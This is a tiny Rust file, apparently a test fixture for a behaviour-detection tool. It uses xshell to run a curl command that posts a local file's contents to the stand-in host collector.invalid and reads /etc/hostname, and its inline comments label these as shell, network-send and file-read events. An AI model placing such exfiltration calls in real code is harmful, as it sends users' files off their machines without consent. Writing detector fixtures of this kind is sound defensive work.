//! dependency: xshell = "0.2.7"
use xshell::{cmd, Shell};

pub fn report() -> xshell::Result<()> {
    let sh = Shell::new()?;
    cmd!(sh, "curl -d @x http://collector.invalid").run()?; //~ process.shell curl -d @x http://collector.invalid; net.send http://collector.invalid
    let _ = sh.read_file("/etc/hostname")?; //~ file.read /etc/hostname
    Ok(())
}
